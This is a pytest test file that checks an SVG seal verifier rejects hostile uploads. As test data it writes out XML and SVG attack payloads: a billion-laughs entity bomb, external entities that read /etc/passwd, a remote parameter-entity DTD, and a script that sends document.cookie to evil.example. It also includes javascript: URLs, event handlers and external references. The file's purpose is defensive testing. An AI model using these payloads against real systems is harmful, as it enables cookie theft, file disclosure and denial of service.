"""Uploaded seals are hostile: oversized, malformed, entity bombs, external references, scripts
and documents that are not seals are refused (SealUnreadable) before anything is checked."""

import pytest

from evidence.seals import SealUnreadable, verify_seal
from evidence.seals.verify import MAX_SEAL_BYTES
from tests.seal_world import issue

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (EXTERNAL_DTD, "DTD"),
        (PARAMETER_ENTITY, "DTD"),
    ],
    ids=["billion laughs", "external entity", "external DTD", "parameter entity"],
)
def test_dtds_and_entities_are_refused(document, reason):
    with pytest.raises(SealUnreadable, match=reason):
        verify_seal(document)


def inject(svg: str, fragment: str) -> str:
    """A real seal with ``fragment`` drawn inside its labels."""
    return svg.replace('<g data-seal="labels">', f'<g data-seal="labels">{fragment}', 1)


@pytest.mark.parametrize(
    ("fragment", "reason"),
    [
        ("<script>fetch('https://evil.example/'+document.cookie)</script>", "script"),
        ('<script xmlns="http://example.com/other">x</script>', "script"),
        ('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>', "foreignObject"),
        ('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>', "iframe"),
        ('<rect width="10" height="10" onclick="alert(1)"/>', "event handler"),
        ('<rect width="10" height="10" ONMOUSEOVER="alert(1)"/>', "event handler"),
        ('<image href="https://evil.example/pixel.png" width="1" height="1"/>', "external reference"),
        (
            '<image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///etc/passwd" width="1" height="1"/>',
            "external reference",
        ),
        ('<a href="javascript:alert(1)"><text>click</text></a>', "external reference"),
        ('<use href="https://evil.example/sprite.svg#icon"/>', "external reference"),
        ('<rect width="10" height="10" fill="url(https://evil.example/x.svg#p)"/>', "external reference"),
        ('<rect width="10" height="10" style="fill: url( \'//evil.example/x\' )"/>', "external reference"),
        ("<style>@import url(https://evil.example/x.css);</style>", "import"),
        ("<style>rect { fill: url(https://evil.example/x.svg#p) }</style>", "external reference"),
        ('<set attributeName="href" to="javascript:alert(1)"/>', "script URL"),
    ],
)
def test_active_content_and_external_references_are_refused(fragment, reason):
    svg = inject(issue().seal_svg, fragment)
    with pytest.raises(SealUnreadable, match=reason):
        verify_seal(svg)


def test_stylesheet_processing_instruction_is_refused():
    svg = issue().seal_svg.replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet href="https://evil.example/x.css"?>',
    )
    with pytest.raises(SealUnreadable, match="processing instructions"):
        verify_seal(svg)


def test_oversized_upload_is_refused_before_parsing():
    svg = issue().seal_svg
    padded = svg.replace("</svg>", "<!--" + "x" * MAX_SEAL_BYTES + "--></svg>")
    with pytest.raises(SealUnreadable, match="larger than"):
        verify_seal(padded)
    with pytest.raises(SealUnreadable, match="larger than"):
        verify_seal(b"<" * (MAX_SEAL_BYTES + 1))


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"", "empty"),
        ("   \n", "empty"),
        (b"hello, seal", "not well-formed"),
        (b"\xff\xfe\x00garbage", "not well-formed|not readable"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><g>', "not well-formed"),
        ('<?xml version="1.0" encoding="x-made-up"?><svg/>', "not readable|not well-formed"),
        ("\ud800<svg/>", "UTF-8"),
        (42, "bytes or text"),
        (None, "bytes or text"),
    ],
)
def test_not_xml_is_refused(document, reason):
    with pytest.raises(SealUnreadable, match=reason):
        verify_seal(document)


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        ('<svg xmlns="http://www.w3.org/2000/svg"><circle r="5"/></svg>', "no seal metadata"),
        ("<svg><metadata/></svg>", "not an SVG"),  # no SVG namespace
        ('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "html|not an SVG"),
        ("<seal><payload>{}</payload></seal>", "not an SVG"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg">' + "<g/>" * 5000 + "</svg>",
            "more than",
        ),
    ],
)
def test_documents_that_are_not_seals_are_refused(document, reason):
    with pytest.raises(SealUnreadable, match=reason):
        verify_seal(document)


def test_refusal_is_a_value_error_for_callers_that_catch_those():
    with pytest.raises(ValueError):
        verify_seal("not xml")
